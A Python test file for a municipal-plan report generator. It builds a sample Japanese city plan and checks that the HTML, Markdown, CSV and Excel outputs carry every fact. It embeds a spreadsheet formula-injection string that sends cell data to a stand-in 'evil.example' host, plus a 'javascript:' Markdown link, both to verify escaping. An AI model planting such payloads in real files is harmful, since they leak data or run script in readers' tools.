"""A plan that carries every fact the general model holds, at once, in every format.

The real plans carry some each; this one has them all: three levels, a node's own
initiatives and narratives of every kind, a listed child, an empty top node, costs, the
city's ratings (agreeing and not) and tallies, comments on the plan, a node and an
indicator, an indicator on two nodes, a plan-level indicator in series with calendar years,
interim values and forecasts, mid-term and yearly targets, operators, a milestone, a
revision, sources and the city's method. Its texts carry formulas and Markdown, which no
format may run.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal as D

import pytest
from openpyxl import load_workbook

from machiplan.domain.plan import (
    Baseline,
    Comment,
    Cost,
    Department,
    Grade,
    HigherPlan,
    Indicator,
    Initiative,
    Level,
    Method,
    Municipality,
    Narrative,
    NarrativeItem,
    Node,
    Observation,
    Plan,
    Rating,
    RatingScale,
    Revision,
    Source,
    Tally,
    Target,
)
from machiplan.domain.validation import check_plan
from machiplan.reports.model import build_report
from machiplan.reports.writer import write_report
from tests.support.report_snapshot import index_text

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def _plan() -> Plan:
    scale = RatingScale(
        "progress",
        "進捗状況",
        (
            Grade("A", "順調", statuses=("achieved", "on_track")),
            Grade("B", "やや遅れ", statuses=("roughly_on_track", "behind")),
            Grade("C", "遅れ", statuses=("regressing",)),
        ),
        name_en="Progress",
    )
    nodes = (
        Node(
            "A",
            "暮らし",
            number="Ⅰ",
            statement="誰もが安心して暮らせるまち",
            costs=(
                Cost(2016, 2016, "planned", D("1200"), D("800"), 12, unit="千円", label="事業費"),
                Cost(2016, 2016, "actual", D("900"), D("700"), 11, unit="千円", label="事業費"),
            ),
            ratings=(Rating(2017, "progress", "B", note="施策全体"),),
            comments=(Comment(2017, "committee", "施策Ⅰは概ね順調。", "推進委員会", dt.date(2018, 6, 1)),),
            tallies=(Tally(2017, "progress", "A", 2), Tally(2017, "progress", "B", 1)),
        ),
        Node(
            "A-1",
            "子育て",
            parent="A",
            number="1",
            priority=True,
            department="kodomo",
            related_departments=("kyoiku",),
            related_plans=("こども計画",),
            initiatives=(Initiative("放課後児童クラブの拡充", ("H28に2か所開設",)),),
            narratives=(
                Narrative("issues", 2016, (NarrativeItem("保育士の確保", bullets=("処遇改善",)),)),
                Narrative("effects", 2016, (NarrativeItem(text="新設園の開園が寄与した"),)),
                Narrative(
                    "direction", None, (NarrativeItem("施策の方向性", bullets=("待機児童ゼロを維持",)),)
                ),
            ),
        ),
        Node("A-1-(1)", "保育の受け皿", parent="A-1", number="(1)"),
        Node(
            "A-1-(1)-a",
            "認定こども園の整備",
            parent="A-1-(1)",
            number="ア",
            initiatives=(Initiative("2園を認定"),),
        ),
        Node("A-2", "健康", parent="A", number="2"),
        Node("B", "まだ何もない目標", number="Ⅱ"),
    )
    k1 = Indicator(
        "K1",
        "保育所定員数",
        nodes=("A-1-(1)", "A-2"),
        type="kpi",
        unit="人",
        department="kodomo",
        definition="認可保育所の定員の合計",
        calculation="4月1日現在の定員",
        data_source="保育課集計",
        confirmed_when="毎年5月",
        target_rationale="待機児童をなくすため",
        selection_rationale="受け皿の量を表す",
        baselines=(Baseline(2013, D("1000"), label="基準値"),),
        observations=(
            Observation(2014, "actual", D("1050")),
            Observation(2015, "actual", D("1100")),
            Observation(2016, "actual", D("1150")),
            Observation(2017, "interim", D("1180"), as_of=dt.date(2017, 9, 30)),
        ),
        targets=(
            Target("plan", 2019, D("1300"), operator="at_least"),
            Target("plan", 2016, D("1120"), kind="midterm"),
            Target("plan", 2016, D("1140"), kind="annual"),
            Target("vision", 2022, D("1500")),
        ),
        ratings=(Rating(2017, "progress", "C", note="定員は増えたが需要も増えた"),),
        comments=(Comment(2017, "council", FORMULA, "市議会", dt.date(2018, 3, 1)),),
    )
    k2 = Indicator(
        "K2",
        "待機児童数",
        nodes=("A-2",),
        unit="人",
        direction="decrease",
        added_in="r2016",
        observations=(Observation(2015, "actual", D("40")), Observation(2017, "forecast", D("10"))),
        targets=(Target("plan", 2019, D("0"), operator="maintain"),),
        baselines=(Baseline(2015, D("40"), label="現状値"),),
    )
    k3 = Indicator(
        "K3",
        "子ども家庭センター",
        nodes=("A-2",),
        value_type="state",
        observations=(Observation(2015, "actual", text="検討中"), Observation(2016, "actual", text="設置")),
        targets=(Target("plan", 2018, None, text="設置"),),
    )
    p1 = Indicator(
        "P1",
        "健康寿命 *_[x](javascript:alert(1))_*",
        unit="歳",
        series=("男性", "女性"),
        baselines=(
            Baseline(2013, D("79.0"), series="男性", period="cy"),
            Baseline(2013, D("83.0"), series="女性", period="cy"),
        ),
        observations=(
            Observation(2015, "actual", D("79.5"), series="男性", period="cy"),
            Observation(2015, "actual", D("83.1"), series="女性", period="cy"),
            Observation(2016, "actual", D("79.9"), series="男性", period="cy"),
            Observation(2016, "actual", D("83.0"), series="女性", period="cy"),
        ),
        targets=(
            Target("plan", 2019, D("80.5"), series="男性"),
            Target("plan", 2019, D("84.0"), series="女性"),
        ),
    )
    return Plan(
        code="every-fact",
        title="なんでも市総合計画",
        municipality=Municipality("なんでも市", "011002"),
        start_fy=2014,
        end_fy=2019,
        evaluation_fy=2017,
        method=Method(description="市の評価：A 順調、B やや遅れ、C 遅れ\n" + FORMULA),
        higher_plans=(HigherPlan("vision", "ビジョン", "なんでも市ビジョン", 2013, 2022),),
        departments=(Department("kodomo", "こども未来課"), Department("kyoiku", "教育総務課")),
        levels=(Level("基本目標", "Goal"), Level("施策", "Policy"), Level("事業", "Measure")),
        nodes=nodes,
        indicators=(p1, k1, k2, k3),
        rating_scales=(scale,),
        revisions=(
            Revision("r2016", 2016, "中間見直し", dt.date(2016, 3, 31), "待機児童対策", ("K2を新設",)),
        ),
        description="なんでも市の総合計画。\n# 見出しではない",
        sources=(Source("なんでも市 評価シート", "https://example.jp/a_b", dt.date(2018, 7, 1), "写し"),),
        comments=(Comment(2017, "internal", "全体として概ね順調。", "企画課"),),
        costs=(Cost(2014, 2019, "planned", D("5"), unit="億円", label="総事業費"),),
        tallies=(Tally(2017, "progress", "A", 1, note="内部評価"), Tally(2017, "progress", "C", 1)),
    )


@pytest.fixture(scope="module")
def plan():
    made = _plan()
    assert check_plan(made) == ()  # a plan the rules accept, with nothing to warn about
    return made


@pytest.fixture(scope="module", params=["ja", "en"])
def written(request, plan, tmp_path_factory):
    folder = tmp_path_factory.mktemp(f"every-{request.param}")
    report = build_report(plan, lang=request.param, today=dt.date(2026, 1, 15))
    write_report(report, folder)
    return request.param, report, folder


def _csv(folder, name):
    return list(csv.reader(io.StringIO((folder / name).read_text(encoding="utf-8-sig"))))


def test_sections_of_a_deep_plan(written):
    lang, report, folder = written
    if lang != "ja":
        return
    assert [s.anchor for s in report.sections] == [
        "plan-indicators", "goal-A", "node-A-1", "node-A-1-(1)", "node-A-2", "goal-B",
    ]  # fmt: skip
    by_anchor = {s.anchor: s for s in report.sections}
    assert by_anchor["node-A-1-(1)"].listed[0].code == "A-1-(1)-a"  # initiatives only: a row of its parent
    assert by_anchor["node-A-2"].elsewhere == {"K1"}
    assert by_anchor["goal-B"].empty
    text = index_text((folder / "index.html").read_text(encoding="utf-8"))
    for expected in (
        "基本目標Ⅰ『暮らし』", "施策1『子育て』", "事業(1)『保育の受け皿』", "ア 認定こども園の整備", "2園を認定",
        "担当", "こども未来課", "関係課", "教育総務課", "関係する計画", "こども計画",
        "放課後児童クラブの拡充", "（H28に2か所開設）",
        "平成28年度 課題", "平成28年度 効果発現要因（所見）", "施策の方向性", "待機児童ゼロを維持",
        "事業費（計画）", "1,200千円", "900千円", "75.0%", "一般財源（実績）", "700千円", "事業数（計画）",
        "市の集計：進捗状況（平成29年度）", "この方法での該当数",
        "平成29年度 外部委員会（推進委員会、平成30年6月1日）", "施策Ⅰは概ね順調。",
        "この項目について、計画に記載された指標や取組はない。",
        "計画全体の指標", "系列別の状況", "男性", "女性",
        "中間目標（平成28年度 (2016)）", "年度目標（平成28年度 (2016)）", "戦略ビジョン",
        "1,300人以上", "0人を維持", "10人（見込）", "1,180人 (H29.9.30時点)",
        "設置", "検討中", "市の評価（平成29年度）進捗状況：", "⚠ この方法による判定",
        "指標の説明", "認可保育所の定員の合計", "実績値の計算方法", "出典", "保育課集計", "数値確定の時期",
        "目標設定の考え方", "指標設定の考え方", "新設", "中間見直し（平成28年度）",
        "この指標は施策2 健康にも掲げられている。", "評価の詳細は事業(1) 保育の受け皿に掲載",
        "計画の概要", "なんでも市の総合計画。", "総事業費", "5億円", "全体として概ね順調。",
        "市の評価方法（計画の記載）", "市の評価の基準", "計画の見直し", "待機児童対策", "K2を新設",
        "なんでも市 評価シート", "https://example.jp/a_b",
    ):  # fmt: skip
        assert expected in text, expected


def test_every_fact_in_the_data_files(written, plan):
    _lang, report, folder = written
    assert set(report.data_files) == {
        "observations.csv", "targets.csv", "evaluations.csv", "baselines.csv", "costs.csv", "ratings.csv",
        "comments.csv", "tallies.csv",
    }  # fmt: skip
    observations = _csv(folder, "observations.csv")
    head = observations[0]
    p1 = [r for r in observations[1:] if r[head.index("指標コード")] == "P1"]
    assert {r[head.index("系列")] for r in p1} == {"男性", "女性"} and {
        r[head.index("年区分")] for r in p1
    } == {"cy"}
    assert {r[head.index("基本目標")] for r in observations[1:] if r[head.index("指標コード")] == "K1"} == {
        "A"
    }
    k1 = next(r for r in observations[1:] if r[head.index("指標コード")] == "K1")
    assert k1[head.index("体系コード")] == "A-1-(1)" and k1[head.index("体系コード_一覧")] == "A-1-(1);A-2"
    k3 = [r[head.index("文字値")] for r in observations[1:] if r[head.index("指標コード")] == "K3"]
    assert k3 == ["検討中", "設置"]
    targets = _csv(folder, "targets.csv")
    th = targets[0]
    kinds = {(r[th.index("指標コード")], r[th.index("目標種類")], r[th.index("条件")]) for r in targets[1:]}
    assert {
        ("K1", "midterm", ""),
        ("K1", "annual", ""),
        ("K1", "final", "at_least"),
        ("K2", "final", "maintain"),
    } <= kinds
    evaluations = _csv(folder, "evaluations.csv")
    eh = evaluations[0]
    rows = {
        (r[eh.index("指標コード")], r[eh.index("目標区分")], r[eh.index("目標種類")], r[eh.index("系列")])
        for r in evaluations[1:]
    }
    assert {("K1", "plan", "midterm", ""), ("K1", "plan", "annual", ""), ("K1", "vision", "final", ""),
            ("P1", "plan", "final", "男性"), ("P1", "plan", "final", "女性")} <= rows  # fmt: skip
    k1_head = next(r for r in evaluations[1:] if r[eh.index("ID")] == "every-fact-K1-plan")
    assert k1_head[eh.index("市の評価")] == "progress=C" and k1_head[eh.index("市の評価_一致")] == "0"
    k3_head = next(r for r in evaluations[1:] if r[eh.index("ID")] == "every-fact-K3-plan")
    assert k3_head[eh.index("最新_状態")] == "設置" and k3_head[eh.index("評価")] == "achieved"
    assert len(_csv(folder, "baselines.csv")) - 1 == 4
    assert len(_csv(folder, "costs.csv")) - 1 == 3
    assert len(_csv(folder, "ratings.csv")) - 1 == 2
    assert len(_csv(folder, "comments.csv")) - 1 == 3
    assert len(_csv(folder, "tallies.csv")) - 1 == 4


def test_every_fact_in_the_workbook(written):
    lang, _report, folder = written
    book = load_workbook(folder / "report.xlsx")
    if lang == "ja":
        assert book.sheetnames == ["概要", "計画の概要", "計画全体の指標", "基本目標Ⅰ", "基本目標Ⅱ", "データ", "評価",
                                   "指標の定義", "事業費", "市の評価", "評価・意見", "市の集計"]  # fmt: skip
    texts = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    assert FORMULA in texts  # a text that looks like a formula stays that text
    data = book[book.sheetnames[-7]]
    heads = [c.value for c in data[1]]
    assert len(heads) == 33  # 29, and the codes of kind, horizon and target kind, and the provenance
    assert data.max_row - 1 == 8 + 9 + 4 + 3  # every observation, target and baseline of P1, K1, K2, K3
    rows = [dict(zip(heads, r, strict=True)) for r in data.iter_rows(min_row=2, values_only=True)]
    source, code, horizon = heads[18], heads[4], heads[30]
    by = {(r[code], r[heads[29]] or r[horizon], r[heads[10]]): r for r in rows}
    assert by["K1", "actual", 2014][source] == "保育課集計"  # the indicator's own data source
    assert by["K2", "actual", 2015][source] == "なんでも市 評価シート"  # else the plan's documents
    assert by["K1", "vision", 2022][source] == "なんでも市ビジョン"  # a target: the plan that sets it
    assert by["K1", "plan", 2019][source] == "なんでも市総合計画"
    evaluation = book[book.sheetnames[-6]]
    assert [c.value for c in evaluation[1]][-7:] == [
        ["系列", "目標種類", "文字値", "最新の状態", "体系コード", "目標区分コード", "目標種類コード"],
        ["Series", "Target kind", "Text", "Latest state", "Node code", "Horizon code", "Target kind code"],
    ][lang == "en"]
    block = [r[0] for r in book[book.sheetnames[3]].iter_rows(values_only=True) if r and r[0]]
    headings = ["基本目標Ⅰ『暮らし』", "施策1『子育て』", "事業(1)『保育の受け皿』", "施策2『健康』"]
    if lang == "ja":
        assert [b for b in block if b in headings] == headings  # the subtree, a block per section


def test_markdown_escapes_the_new_texts(written):
    lang, _report, folder = written
    text = (folder / "report.md").read_text(encoding="utf-8")
    assert not re.search(r"(?<!\\)[\[\]]", text)  # no link, no image
    assert "\\*\\_\\[x\\](javascript:alert(1))\\_\\*" in text
    assert "\n# 見出しではない" not in text and "\\# 見出しではない" in text
    assert "https://example.jp/a\\_b" in text  # an address is text too
    if lang == "ja":
        for expected in ("### ◎施策1『子育て』", "#### 事業(1)『保育の受け皿』", "上位の項目: 基本目標Ⅰ 暮らし › 施策1 子育て",
                         "## 計画の概要", "**市の集計：進捗状況（平成29年度）**", "⚠ **この方法による判定",
                         "系列 男性: **", "- 指標の説明: 認可保育所の定員の合計"):  # fmt: skip
            assert expected in text, expected


def test_csv_never_carries_a_formula(written):
    _lang, report, folder = written
    for name in report.data_files:
        for row in _csv(folder, name):
            for cell in row:
                assert not (
                    cell[:1] in ("=", "+", "@", "\t") or (cell[:1] == "-" and cell[1:2] not in "0123456789")
                ), (name, cell)
    comments = _csv(folder, "comments.csv")
    assert "'" + FORMULA in {c for row in comments for c in row}
